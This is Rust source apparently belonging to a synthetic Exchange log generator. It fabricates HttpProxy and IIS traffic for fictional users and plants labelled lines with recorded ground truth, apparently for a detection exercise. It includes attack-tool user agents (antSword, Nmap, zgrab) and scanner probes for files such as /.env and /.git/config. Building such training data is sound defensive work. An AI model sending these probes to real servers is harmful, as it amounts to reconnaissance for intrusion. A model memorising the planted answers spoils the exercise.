const UA_OUTLOOK: &[&str] = &[
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13530; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5110; Pro)",
    "Microsoft Office/16.0 (Windows NT 6.1; Microsoft Outlook 16.0.4266; Pro)",
    "Microsoft Office/15.0 (Windows NT 6.1; Microsoft Outlook 15.0.5311; Pro)",
];
const UA_BROWSER: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.72 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.182 Safari/537.36 Edg/88.0.705.81",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 14_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/14.0.3 Mobile/15E148 Safari/604.1",
];
const UA_EWS: &[&str] = &[
    "MacOutlook/16.46.21021202 (Intelx64 Mac OS X 10.15.7 (Build 19H524))",
    "MacOutlook/16.45.21011103 (Intelx64 Mac OS X 11.2.1 (Build 20D74))",
    "AppleExchangeWebServices/818.120.2 accountsd/113",
    "ExchangeServicesClient/15.00.0913.015",
    "Microsoft Office/16.0 (Windows NT 10.0; MAPICPP 16.0.13628; Pro)",
];
const UA_MOBILE: &[(&str, &str)] = &[
    ("Apple-iPhone12C1/1805.212", "iPhone"),
    ("Apple-iPhone11C8/1804.231", "iPhone"),
    ("Apple-iPhone13C2/1805.212", "iPhone"),
    ("Apple-iPad8C1/1805.212", "iPad"),
    ("Outlook-iOS-Android/1.0", "Outlook"),
    ("Android-Mail/2021.01.24.354367911.release", "Android"),
    ("SAMSUNG-SM-G991B/101.100001", "SAMSUNGSMG991B"),
];
const UA_SCANNER: &[&str] = &[
    "python-requests/2.25.1",
    "ExchangeServicesClient/0.0.0.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.22.0",
];

impl World {
    fn new(seed: u64) -> World {
        let mut rng = Rng::new(seed, 1);
        let mut uas = vec![Ua {
            hp: String::new(),
            iis: String::new(),
        }];
        let mut add = |s: &str| -> usize {
            uas.push(Ua {
                hp: s.replace(',', " "),
                iis: s.replace(' ', "+"),
            });
            uas.len() - 1
        };
        let ua_outlook: Vec<usize> = UA_OUTLOOK.iter().map(|s| add(s)).collect();
        let ua_browser: Vec<usize> = UA_BROWSER.iter().map(|s| add(s)).collect();
        let ua_ews: Vec<usize> = UA_EWS.iter().map(|s| add(s)).collect();
        let ua_mobile: Vec<usize> = UA_MOBILE.iter().map(|s| add(s.0)).collect();
        let ua_scanner: Vec<usize> = UA_SCANNER.iter().map(|s| add(s)).collect();
        let u = NamedUas {
            msrpc: add("MSRPC"),
            bits: add("Microsoft BITS/7.8"),
            winrm: add("Microsoft WinRM Client"),
            probe: add("AMProbe/Local/ClientAccess"),
            ps_probe: add("Exchange BackEnd Probes"),
            gcal: add("Google-Calendar-Importer"),
            outlook_mobile: ua_mobile[4],
            python: ua_scanner[0],
            ews_poc: ua_scanner[1],
            yandex: add("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"),
            antsword: add("antSword/v2.1"),
            nmap: add(
                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
            ),
            zgrab: ua_scanner[3],
            chrome74: ua_scanner[2],
            outlook_ios: add("Outlook-iOS/723.4027091.prod.iphone (4.2102.0)"),
            outlook_android: add("Outlook-Android/2.0"),
        };
        let dbs: Vec<[u8; 16]> = (0..6).map(|_| rng.guid()).collect();
        let db_srv = vec![0, 1, 1, 0, 1, 1]; // DB01 and DB04 active on ex01
        let mut users = Vec::new();
        let mut seen = std::collections::HashSet::new();
        let n = 640;
        for i in 0..n {
            let f = *rng.pick(FIRST);
            let l = *rng.pick(LAST);
            let mut sam = format!("{}{}", f[..1].to_lowercase(), l.to_lowercase());
            let mut smtp = format!("{}.{}@contoso.com", f.to_lowercase(), l.to_lowercase());
            let mut k = 2;
            while !seen.insert(sam.clone()) {
                sam = format!("{}{}{}", f[..1].to_lowercase(), l.to_lowercase(), k);
                smtp = format!("{}.{}{}@contoso.com", f.to_lowercase(), l.to_lowercase(), k);
                k += 1;
            }
            let mobile = if rng.chance(0.55) {
                let m = rng.below(UA_MOBILE.len() as u64) as usize;
                let mut id = String::new();
                if UA_MOBILE[m].1 == "Outlook" {
                    id.push_str("BF");
                    let g = rng.guid();
                    shex(&mut id, &g, true);
                    id.truncate(28);
                } else if UA_MOBILE[m].1 == "Android" || UA_MOBILE[m].1.starts_with("SAMSUNG") {
                    id.push_str("androidc");
                    for _ in 0..10 {
                        id.push((b'0' + rng.below(10) as u8) as char);
                    }
                } else {
                    let g = rng.guid();
                    shex(&mut id, &g, true);
                    id.truncate(32);
                }
                Some((ua_mobile[m], id, UA_MOBILE[m].1))
            } else {
                None
            };
            users.push(User {
                sam,
                smtp,
                rid: 1107 + i as u32 * 3 + rng.below(3) as u32,
                mbx: rng.guid(),
                db: rng.below(6) as usize,
                ip_int: [10, 20, 16 + rng.below(24) as u8, 10 + rng.below(240) as u8],
                ip_ext: if rng.chance(0.5) {
                    [198, 51, 100, 20 + rng.below(230) as u8]
                } else {
                    [192, 0, 2, 1 + rng.below(250) as u8]
                },
                outlook: *rng.pick(&ua_outlook),
                browser: *rng.pick(&ua_browser),
                ews: *rng.pick(&ua_ews),
                mobile,
                creq: rng.guid(),
            });
        }
        // administrators
        let mut admins = Vec::new();
        for (i, name) in ["exadmin", "adm-jsmith", "adm-mgarcia", "svc-monitoring"]
            .iter()
            .enumerate()
        {
            admins.push(users.len());
            users.push(User {
                sam: name.to_string(),
                smtp: format!("{name}@contoso.com"),
                rid: 1101 + i as u32,
                mbx: rng.guid(),
                db: 0,
                ip_int: [10, 20, 5, 30 + i as u8],
                ip_ext: [10, 20, 5, 30 + i as u8],
                outlook: ua_outlook[0],
                browser: ua_browser[i % 3],
                ews: ua_ews[3],
                mobile: None,
                creq: rng.guid(),
            });
        }
        let mobile_users = (0..n).filter(|&i| users[i].mobile.is_some()).collect();
        let health = (0..4)
            .map(|_| {
                let mut s = String::from("HealthMailbox");
                let g = rng.guid();
                shex(&mut s, &g, false);
                s
            })
            .collect();
        World {
            uas,
            users,
            mobile_users,
            admins,
            health,
            dbs,
            db_srv,
            oab: rng.guid(),
            org_mbx: rng.guid(),
            ua_browser,
            ua_ews,
            ua_scanner,
            u,
        }
    }
}

// ----------------------------------------------------------------------------------------------
// one request, as seen by HttpProxy and IIS

#[derive(Default)]
struct Req {
    t: i64,
    dur: u64,
    rid: [u8; 16],
    proto: usize,
    creq: String,
    host: &'static str,
    stem: String,
    action: &'static str,
    auth: &'static str,
    is_auth: bool,
    user: String,
    anchor: String,
    ua: usize,
    cip: [u8; 4],
    status: u16,
    be_status: u16,
    error_code: &'static str,
    method: &'static str,
    proxied: bool,
    target: &'static str,
    target_idx: usize, // 0 = ex01 (this server's back end), 1 = ex02, 2 = other
    routing_type: &'static str,
    routing_hint: &'static str,
    cookie: String,
    req_bytes: u64,
    resp_bytes: u64,
    query: String,
    gerr: String,
    routing_db: Option<[u8; 16]>,
    // IIS
    iis_user: String,
    referer: &'static str,
    exch_vdir: bool,
    owa_suffix: bool,
    rpc_suffix: bool,
    sub: u16,
    win32: u64,
    no_backend: bool,
    /// Back-end line's client address when not the front end's (a local probe: `127.0.0.1`, `::1`).
    be_cip: &'static str,
}

impl Req {
    /// An internet scanner's request outside Exchange's virtual directories (the same draws in
    /// both generators, so the sparse tree keeps its bytes).
    fn internet_noise(&mut self, rng: &mut Rng, w: &World) {
        self.exch_vdir = false;
        self.cip = [203, 0, 113, 128 + rng.below(120) as u8];
        self.ua = if rng.chance(0.3) {
            0
        } else {
            *rng.pick(&[w.u.zgrab, w.u.chrome74, w.ua_browser[0]])
        };
        let (stem, st) = *rng.pick(&[
            ("/", 200u16),
            ("/favicon.ico", 200),
            ("/robots.txt", 404),
            ("/.env", 404),
            ("/wp-login.php", 404),
            ("/remote/login", 404),
            ("/.git/config", 404),
            ("/cgi-bin/luci", 404),
            ("/iisstart.htm", 200),
        ]);
        self.stem.push_str(stem);
        self.status = st;
        self.win32 = if st == 404 { 2 } else { 0 };
        self.dur = rng.range(0, 30);
    }

    fn reset(&mut self, t: i64, rid: [u8; 16], proto: usize) {
        self.t = t;
        self.dur = 0;
        self.rid = rid;
        self.proto = proto;
        self.creq.clear();
        self.host = EXT_HOST;
        self.stem.clear();
        self.action = "";
        self.auth = "Negotiate";
        self.is_auth = true;
        self.user.clear();
        self.anchor.clear();
        self.ua = 0;
        self.cip = [0; 4];
        self.status = 200;
        self.be_status = 200;
        self.error_code = "";
        self.method = "POST";
        self.proxied = true;
        self.target = SERVERS[0];
        self.target_idx = 0;
        self.routing_type = "IntraForest";
        self.routing_hint = "";
        self.cookie.clear();
        self.req_bytes = 0;
        self.resp_bytes = 0;
        self.query.clear();
        self.gerr.clear();
        self.routing_db = None;
        self.iis_user.clear();
        self.referer = "";
        self.exch_vdir = true;
        self.owa_suffix = false;
        self.rpc_suffix = false;
        self.sub = 0;
        self.win32 = 0;
        self.no_backend = false;
        self.be_cip = "";
    }
    fn set_target(&mut self, idx: usize) {
        self.target_idx = idx;
        self.target = SERVERS[idx];
    }
}

/// Appends optional GenericInfo statistics until the line reaches `want` bytes.
fn pad_entry(b: &mut Vec<u8>, rng: &mut Rng) {
    match rng.below(7) {
        0 | 1 => {
            let dc = if rng.chance(0.5) { "DC01" } else { "DC02" };
            ps(b, "I32:ADS.C[");
            ps(b, dc);
            ps(b, "]=");
            pu(b, rng.range(1, 4));
            ps(b, ";F:ADS.AL[");
            ps(b, dc);
            ps(b, "]=");
            decimal(b, rng, 3, 6);
            b.push(b';');
        }
        2 => {
            let dc = if rng.chance(0.5) {
                "dc01.contoso.local"
            } else {
                "dc02.contoso.local"
            };
            ps(b, "I32:ATE.C[");
            ps(b, dc);
            ps(b, "]=");
            pu(b, rng.range(1, 3));
            ps(b, ";F:ATE.AL[");
            ps(b, dc);
            ps(b, "]=");
            decimal(b, rng, 1, 1);
            b.push(b';');
        }
        3 => {
            ps(b, "Dbl:BudgUse.T[]=");
            decimal(b, rng, 40, 13);
            b.push(b';');
        }
        4 => {
            let dc = if rng.chance(0.5) { "DC01" } else { "DC02" };
            ps(b, "I32:ADR.C[");
            ps(b, dc);
            ps(b, "]=");
            pu(b, rng.range(1, 3));
            ps(b, ";F:ADR.AL[");
            ps(b, dc);
            ps(b, "]=");
            decimal(b, rng, 2, 7);
            b.push(b';');
        }
        5 => {
            ps(b, "S:WLM.Bal=2.147484E+09;Dbl:WLM.TS=");
            pu(b, rng.below(60));
            b.push(b';');
        }
        _ => {
            ps(b, "I32:RPC.C[ex0");
            pu(b, rng.range(1, 2));
            ps(b, "]=");
            pu(b, rng.range(1, 9));
            ps(b, ";Dbl:RPC.T[ex0");
            pu(b, rng.range(1, 2));
            ps(b, "]=");
            pu(b, rng.range(1, 40));
            b.push(b';');
        }
    }
}

/// GenericInfo: mandatory items always, optional ones (in their natural order) only while the
/// line stays within `budget` bytes for the whole field.
fn generic_info(g: &mut Vec<u8>, r: &Req, rng: &mut Rng, budget: usize, scratch: &mut Vec<u8>) {
    g.clear();
    let begin = r.t - r.dur as i64;
    ps(g, "BeginRequest=");
    p_iso(g, begin);
    ps(g, ";CorrelationID=<empty>;ProxyState-Run=None;");
    if !r.proxied {
        ps(g, "ProxyState-Complete=None;EndRequest=");
        p_iso(g, r.t);
        g.push(b';');
        return;
    }
    // remaining mandatory bytes: FEAuth (28) + BeginGetResponse (42) + ProxyState-Complete..SharedCacheGuard (57) + EndRequest (36)
    let mut rest = 163usize;
    let fits = |g: &Vec<u8>, add: usize, rest: usize| g.len() + add + rest <= budget;
    if rng.chance(0.2) {
        scratch.clear();
        ps(scratch, "RandomBE=");
        ps(scratch, r.target);
        scratch.push(b'~');
        pu(scratch, BE_VER);
        scratch.push(b';');
        if fits(g, scratch.len(), rest) {
            g.extend_from_slice(scratch);
        }
    }
    ps(g, "FEAuth=BEVersion-");
    pu(g, BE_VER);
    g.push(b';');
    rest -= 28;
    if let (Some(db), true) = (&r.routing_db, rng.chance(0.35)) {
        scratch.clear();
        ps(scratch, "RoutingEntry=DatabaseGuid:");
        pguid(scratch, db);
        ps(scratch, "%40contoso.local%40contoso.local Server:");
        ps(scratch, r.target);
        scratch.push(b'+');
        pu(scratch, BE_VER);
        scratch.push(b'@');
        pu(scratch, ticks(begin) - rng.below(30_000_000_000));
        scratch.push(b';');
        if fits(g, scratch.len(), rest) {
            g.extend_from_slice(scratch);
        }
    }
    if rng.chance(0.15) && fits(g, 26, rest) {
        ps(g, "NewConnection=");
        pip(g, SERVER_IP[0]);
        ps(g, "&0;");
    }
    let d = r.dur as i64;
    let t1 = begin + (d / 20).min(8);
    let t2 = r.t - (d / 50).min(2);
    if (r.method == "POST" || r.method == "RPC_IN_DATA") && fits(g, 93, rest) {
        ps(g, "BeginGetRequestStream=");
        p_iso(g, t1);
        ps(g, ";OnRequestStreamReady=");
        p_iso(g, t1);
        g.push(b';');
    }
    ps(g, "BeginGetResponse=");
    p_iso(g, t1);
    g.push(b';');
    rest -= 42;
    if fits(g, 41, rest) {
        ps(g, "OnResponseReady=");
        p_iso(g, t2);
        g.push(b';');
    }
    if fits(g, 40, rest) {
        ps(g, "EndGetResponse=");
        p_iso(g, t2);
        g.push(b';');
    }
    ps(
        g,
        "ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=",
    );
    p_iso(g, r.t);
    g.push(b';');
}

thread_local! {
    static SCRATCH: std::cell::RefCell<Vec<u8>> = std::cell::RefCell::new(Vec::with_capacity(256));
}

/// One HttpProxy CSV row (74 columns, no line terminator), padded to about `want` bytes (600..1000).
fn hp_line(
    b: &mut Vec<u8>,
    tail: &mut Vec<u8>,
    gi: &mut Vec<u8>,
    r: &Req,
    w: &World,
    rng: &mut Rng,
    want: usize,
) {
    let saved = rng.clone();
    hp_line_x(b, tail, gi, r, w, rng, want, false);
    if b.len() > 998 {
        // rare: drop the optional cookie / RoutingDB / ClientRequestId columns
        *rng = saved;
        hp_line_x(b, tail, gi, r, w, rng, want, true);
    }
}

#[allow(clippy::too_many_arguments)]
fn hp_line_x(
    b: &mut Vec<u8>,
    tail: &mut Vec<u8>,
    gi: &mut Vec<u8>,
    r: &Req,
    w: &World,
    rng: &mut Rng,
    want: usize,
    lean: bool,
) {
    b.clear();
    p_iso(b, r.t);
    pc(b);
    pguid(b, &r.rid);
    pc(b);
    ps(b, BUILD);
    pc(b);
    if !lean {
        pcsv(b, &r.creq);
    }
    pc(b);
    ps(b, PROTOS[r.proto]);
    pc(b);
    ps(b, r.host);
    pc(b);
    pcsv(b, &r.stem);
    pc(b);
    ps(b, r.action);
    pc(b);
    ps(b, r.auth);
    pc(b);
    ps(b, if r.is_auth { "true" } else { "false" });
    pc(b);
    pcsv(b, &r.user);
    pc(b);
    pc(b); // Organization
    pcsv(b, &r.anchor);
    pc(b);
    pcsv(b, &w.uas[r.ua].hp);
    pc(b);
    pip(b, r.cip);
    pc(b);
    ps(b, FE_HOST);
    pc(b);
    pu(b, r.status as u64);
    pc(b);
    if r.be_status != 0 {
        pu(b, r.be_status as u64);
    }
    pc(b);
    ps(b, r.error_code);
    pc(b);
    ps(b, r.method);
    pc(b);
    if r.proxied {
        ps(b, "Proxy");
    }
    pc(b);
    if r.proxied {
        ps(b, r.target);
    }
    pc(b);
    if r.proxied {
        ps(b, TARGET_VER);
    }
    pc(b);
    ps(b, r.routing_type);
    pc(b);
    ps(b, r.routing_hint);
    pc(b);
    if !lean {
        pcsv(b, &r.cookie);
    }
    pc(b);
    pc(b); // ServerLocatorHost
    pc(b); // ServerLocatorLatency
    pu(b, r.req_bytes);
    pc(b);
    pu(b, r.resp_bytes);
    pc(b);
    pc(b); // TargetOutstandingRequests
    pc(b); // AuthModulePerfContext
    // 30 latency columns, -1 = empty
    let d = r.dur as i64;
    let mut lat = [-1i64; 30];
    if r.proxied {
        let calc = if rng.chance(0.08) {
            rng.range(3, 40) as i64
        } else {
            rng.below(3) as i64
        };
        let ad = if calc > 3 { calc - 1 } else { 0 };
        let over = (rng.range(0, 5) as i64 + calc).min(d);
        let proxy = d - over;
        let post = r.method == "POST" || r.method == "RPC_IN_DATA";
        lat[0] = rng.below(2) as i64; // HttpPipelineLatency
        lat[1] = calc; // CalculateTargetBackEndLatency
        lat[3] = 0; // TotalGlsLatency
        lat[5] = 0; // TotalAccountForestLatency
        lat[7] = 0; // TotalResourceForestLatency
        lat[8] = ad; // ADLatency
        lat[10] = 0; // TotalSharedCacheLatency
        lat[11] = d; // ActivityContextLifeTime
        lat[12] = 0; // ModuleToHandlerSwitchingLatency
        if post {
            lat[13] = (proxy / 40).min(3); // ClientReqStreamLatency
            lat[14] = 0;
            lat[15] = 0;
        }
        lat[16] = (proxy - rng.below(2) as i64).max(0); // BackendProcessingLatency
        lat[17] = rng.below(2) as i64; // BackendRespInitLatency
        lat[18] = 0;
        lat[19] = 0;
        if r.auth == "Negotiate" || r.auth == "Kerberos" {
            lat[20] = 0; // KerberosAuthHeaderLatency
        }
        lat[21] = 0; // HandlerCompletionLatency
        lat[22] = d; // RequestHandlerLatency
        lat[23] = 0; // HandlerToModuleSwitchingLatency
        lat[24] = proxy; // ProxyTime
        lat[25] = over.min(rng.range(0, 3) as i64 + calc / 2); // CoreLatency
        lat[26] = calc.min(over); // RoutingLatency
        lat[27] = over; // HttpProxyOverhead
        lat[28] = d; // TotalRequestTime
    } else {
        lat[0] = 0;
        lat[11] = d;
        lat[12] = 0;
        lat[21] = 0;
        lat[22] = d;
        lat[28] = d;
    }
    for v in lat {
        if v >= 0 {
            pu(b, v as u64);
        }
        pc(b);
    }
    if !r.query.is_empty() {
        pcsv_pre(b, "?", &r.query);
    }
    pc(b);
    pc(b); // BackEndGenericInfo
    // tail: GenericErrors, EdgeTraceId, DatabaseGuid, UserADObjectGuid, PartitionEndpointLookupLatency, RoutingStatus
    tail.clear();
    pc(tail);
    pcsv(tail, &r.gerr);
    pc(tail);
    pc(tail);
    if let (Some(db), false) = (&r.routing_db, lean) {
        ps(tail, "|RoutingDB:");
        pguid(tail, db);
    }
    pc(tail);
    pc(tail);
    pc(tail);
    if r.proxied {
        ps(tail, "CafeV1");
    }
    let budget = want.saturating_sub(b.len() + tail.len());
    SCRATCH.with(|sc| generic_info(gi, r, rng, budget, &mut sc.borrow_mut()));
    b.extend_from_slice(gi);
    while b.len() + tail.len() < want {
        let before = b.len();
        pad_entry(b, rng);
        if b.len() + tail.len() > 998 {
            b.truncate(before);
            break;
        }
    }
    b.extend_from_slice(tail);
}

/// One W3C line for the front end (W3SVC1, port 443) or the back end (W3SVC2, port 444).
fn iis_line(b: &mut Vec<u8>, r: &Req, w: &World, back: bool, fe: usize, rng: &mut Rng) {
    b.clear();
    let t = if back {
        r.t - (r.dur as i64).min(rng.range(1, 6) as i64)
    } else {
        r.t
    };
    p_iis(b, t);
    b.push(b' ');
    pip(b, SERVER_IP[0]);
    b.push(b' ');
    ps(b, r.method);
    b.push(b' ');
    piis(b, &r.stem);
    b.push(b' ');
    if r.exch_vdir {
        piis_q(b, &r.query);
        ps(b, "&CorrelationID=<empty>;");
        if r.rpc_suffix {
            ps(b, "&RequestId=");
            let g = rng.guid();
            pguid(b, &g);
        }
        ps(b, "&cafeReqId=");
        pguid(b, &r.rid);
        b.push(b';');
        if r.owa_suffix {
            ps(b, "&encoding=;");
        }
    } else {
        piis(b, &r.query);
    }
    b.push(b' ');
    if back {
        ps(b, "444 ");
        // a local probe (`be_cip`) authenticates as itself, not through the front end
        if !r.be_cip.is_empty() || (r.is_auth && rng.chance(0.5)) {
            piis(b, &r.iis_user);
        } else {
            ps(b, MACHINE[fe]);
        }
        b.push(b' ');
        if r.be_cip.is_empty() {
            pip(b, SERVER_IP[fe]);
        } else {
            ps(b, r.be_cip);
        }
    } else {
        ps(b, "443 ");
        piis(b, &r.iis_user);
        b.push(b' ');
        pip(b, r.cip);
    }
    b.push(b' ');
    piis(b, &w.uas[r.ua].iis);
    b.push(b' ');
    piis(b, r.referer);
    b.push(b' ');
    let st = if back && r.be_status != 0 {
        r.be_status
    } else {
        r.status
    };
    pu(b, st as u64);
    b.push(b' ');
    pu(b, r.sub as u64);
    b.push(b' ');
    pu(b, r.win32);
    b.push(b' ');
    let taken = if back {
        r.dur.saturating_sub(rng.range(1, 8))
    } else {
        r.dur
    };
    pu(b, taken);
}
/// Query with spaces as `+` but `-` is not used for empty (the Exchange suffix follows).
fn piis_q(b: &mut Vec<u8>, s: &str) {
    for &c in s.as_bytes() {
        b.push(if c == b' ' { b'+' } else { c });
    }
}

// ----------------------------------------------------------------------------------------------
// planted lines and ground truth

#[derive(Clone, Copy, PartialEq)]
enum Dest {
    Hp(usize),
    W1,
    W2,
    Ecp,
    Oab,
}

struct Plant {
    t: i64,
    dest: Dest,
    text: Vec<u8>,
    check: &'static str,
}

struct Gt {
    t: i64,
    file: String,
    line: u64,
    check: &'static str,
    text: String,
}

fn write_plant(roll: &mut Roller, p: &Plant, gts: &mut Vec<Gt>) -> io::Result<()> {
    let (_, line) = roll.write(p.t, &p.text, false)?;
    gts.push(Gt {
        t: p.t,
        file: roll.rel().to_string(),
        line,
        check: p.check,
        text: String::from_utf8_lossy(&p.text).into_owned(),
    });
    Ok(())
}

// ----------------------------------------------------------------------------------------------
// traffic mix (`--mix` and the share flags)

/// Classes of IIS lines the mix controls; shares are of all IIS lines (W3SVC1 + W3SVC2).
const C_STATIC: usize = 0;
const C_ECP_ADMIN: usize = 1;
const C_AUTOD_JSON: usize = 2;
const C_EAS: usize = 3;
const C_PROBE: usize = 4;
const C_NOISE: usize = 5;
const C_OTHER: usize = 6;
const N_CLASS: usize = 7;
const CLASS_NAMES: [&str; N_CLASS] = [
    "OWA static",
    "ECP admin",
    "autodiscover.json",
    "ActiveSync",
    "health probes",
    "internet noise",
    "other user traffic",
];

/// The share-driven generator's parameters. `--mix sparse` without a share flag does not use
/// them: it is the original generator, byte for byte.
#[derive(Clone, Debug)]
struct Mix {
    name: &'static str,
    /// shares of IIS lines per class (`C_*`); `C_OTHER` is what the others leave
    share: [f64; N_CLASS],
    /// share of IIS lines written by the back-end site W3SVC2 (:444)
    backend: f64,
    /// bytes: main stream (HttpProxy + IIS), ECP server log, OAB generator log, in thousandths
    split: [u64; 3],
    /// HttpProxy protocol weights of the "other user traffic" class
    proto_w: [u32; 11],
}

impl Mix {
    fn preset(name: &str) -> Option<Mix> {
        match name {
            // what the original generator makes (2 GiB, seed 42, lines classified by their text)
            "sparse" => Some(Mix {
                name: "sparse",
                share: [0.029, 0.006, 0.013, 0.126, 0.083, 0.021, 0.0],
                backend: 0.288,
                split: [950, 40, 10],
                proto_w: PROTO_W,
            }),
            // a busy front end: nearly every IIS line is OWA / ECP / EWS / MAPI / ActiveSync /
            // autodiscover, a fifth OWA static resources; HttpProxy : IIS about 59 : 41
            "dense" => Some(Mix {
                name: "dense",
                share: [0.20, 0.05, 0.06, 0.14, 0.05, 0.004, 0.0],
                backend: 0.22,
                split: [990, 8, 2],
                // Autodiscover (xml), Eas, Ecp, Ews, Mapi, Oab, Owa, OwaCalendar, PowerShell, RpcHttp, Rest
                proto_w: [6, 4, 2, 24, 34, 1, 26, 1, 1, 2, 1],
            }),
            _ => None,
        }
    }
    fn finish(&mut self) -> bool {
        let used: f64 = self.share[..C_OTHER].iter().sum();
        self.share[C_OTHER] = 1.0 - used;
        self.share.iter().all(|&s| (0.0..=1.0).contains(&s)) && (0.0..1.0).contains(&self.backend)
    }
}

/// OWA static resources (served by the front end; no HttpProxy row).
const OWA_AUTH_RES: &[&str] = &[
    "favicon.ico",
    "owa_text_blue.png",
    "sign_in_arrow.png",
    "segoeui-regular.ttf",
    "segoeui-semilight.ttf",
    "segoeui-regular.woff",
    "segoeui-semilight.woff",
    "segoeui-semibold.woff",
    "bg_img.png",
    "warning.png",
    "logon.css",
    "owafont.css",
    "lgnleft.gif",
    "lgnright.gif",
];
const OWA_PREM_RES: &[&str] = &[
    "scripts/boot.worldwide.0.mouse.js",
    "scripts/boot.worldwide.1.mouse.js",
    "scripts/boot.worldwide.2.mouse.js",
    "scripts/boot.worldwide.3.mouse.js",
    "scripts/microsoft.owa.worldwide.mouse.js",
    "scripts/microsoft.owa.mail.mouse.js",
    "scripts/microsoft.owa.calendar.mouse.js",
    "scripts/globalize.culture.en-us.js",
    "resources/styles/0/boot.worldwide.mouse.css",
    "resources/styles/0/owa.worldwide.mouse.css",
    "resources/images/0/sprite1.mouse.png",
    "resources/images/0/sprite1.mouse.css",
    "resources/themes/base/0/owafont.css",
    "resources/fonts/owa-icons.woff",
];
const ECP_STATIC: &[&str] = &[
    "scripts/microsoftajax.js",
    "scripts/common.js",
    "scripts/ecpajax.js",
    "scripts/dataviews.js",
    "themes/default/clear.gif",
    "themes/default/ecp.css",
    "themes/default/ecpsprite1.png",
    "themes/default/loading.gif",
];
const ECP_SLABS: &[&str] = &[
    "/ecp/UsersGroups/Mailboxes.slab",
    "/ecp/UsersGroups/DistributionGroups.slab",
    "/ecp/Servers/Servers.slab",
    "/ecp/Servers/VirtualDirectories.slab",
    "/ecp/MailFlow/AcceptedDomains.slab",
    "/ecp/Reporting/AdminAuditLog.slab",
];
const ECP_SCHEMAS: &[&str] = &[
    "Mailboxes",
    "MailboxService",
    "DistributionGroup",
    "AcceptedDomains",
    "ServerCertificates",
    "VirtualDirectories",
    "RetentionPolicies",
    "MobileDevices",
    "ReceiveConnectors",
    "DatabaseService",
];

// ----------------------------------------------------------------------------------------------
// the main stream: HttpProxy + IIS

struct Main<'a> {
    w: &'a World,
    rng: Rng,
    req: Req,
    line: Vec<u8>,
    tail: Vec<u8>,
    gi: Vec<u8>,
    hp: Vec<Roller>,
    w1: Roller,
    w2: Roller,
    clock: Clock,
    target: u64,
    bytes: u64,
    hp_bytes: u64,
    iis_bytes: u64,
    share: f64,
    plants: Vec<Plant>,
    pi: usize,
    gts: Vec<Gt>,
    hp_lines: u64,
    iis_lines: u64,
    si: [u64; 3],
    /// the share-driven generator (None: the original one)
    mix: Option<Mix>,
    cls: [u64; N_CLASS],
    be_lines: u64,
}

const T_0226: i64 = 18_684 * DAY; // 2021-02-26
const T_0302: i64 = 18_688 * DAY; // 2021-03-02
const T_0305: i64 = 18_691 * DAY; // 2021-03-05

impl<'a> Main<'a> {
    fn user(&mut self) -> usize {
        let x = self.rng.f64();
        let n = self.w.users.len() - self.w.admins.len();
        ((x * x * n as f64) as usize).min(n - 1)
    }

    fn anchor_sid(&mut self, rid: u32) {
        self.req.anchor.push_str("Sid~");
        self.req.anchor.push_str(SID_PREFIX);
        self.req.anchor.push_str(&rid.to_string());
    }

    fn db_cookie(&mut self, db: &[u8; 16]) {
        let r = &mut self.req;
        r.cookie.push_str("Database~");
        sguid(&mut r.cookie, db);
        r.cookie.push_str("~~");
        let mut v = Vec::new();
        let d = dt(r.t + 30 * DAY + self.rng.below(DAY as u64) as i64);
        pdate(&mut v, &d);
        v.push(b'T');
        phms(&mut v, &d);
        r.cookie.push_str(std::str::from_utf8(&v).unwrap());
        r.cookie.push_str("~contoso.local~1");
    }

    fn set_user(&mut self, ui: usize) {
        let u = &self.w.users[ui];
        self.req.user.push_str("CONTOSO\\");
        self.req.user.push_str(&u.sam);
        self.req.iis_user.push_str("CONTOSO\\");
        self.req.iis_user.push_str(&u.sam);
        self.req.set_target(self.w.db_srv[u.db]);
        if self.rng.chance(0.7) {
            self.req.routing_db = Some(self.w.dbs[u.db]);
        }
    }

    /// A benign request of protocol `p` at time `t` into `self.req`.
    fn request(&mut self, p: usize, t: i64) {
        let w = self.w;
        let rid = self.rng.guid();
        self.req.reset(t, rid, p);
        match p {
            P_MAPI => {
                let ui = self.user();
                let u = &w.users[ui];
                self.set_user(ui);
                let rng = &mut self.rng;
                let r = &mut self.req;
                let nspi = rng.chance(0.15);
                r.stem
                    .push_str(if nspi { "/mapi/nspi/" } else { "/mapi/emsmdb/" });
                r.action = if nspi {
                    *rng.pick(&[
                        "Bind",
                        "QueryRows",
                        "GetMatches",
                        "ResolveNames",
                        "Unbind",
                        "DNToMId",
                        "GetProps",
                        "QueryColumns",
                    ])
                } else {
                    [
                        "Execute",
                        "NotificationWait",
                        "Connect",
                        "Disconnect",
                        "PING",
                    ][rng.wpick(&[62, 25, 5, 3, 5])]
                };
                r.creq.push('{');
                sguid_up(&mut r.creq, &u.creq);
                r.creq.push_str("}:");
                r.creq.push_str(&rng.range(1, 9000).to_string());
                r.auth = if rng.chance(0.8) { "Negotiate" } else { "NTLM" };
                r.ua = u.outlook;
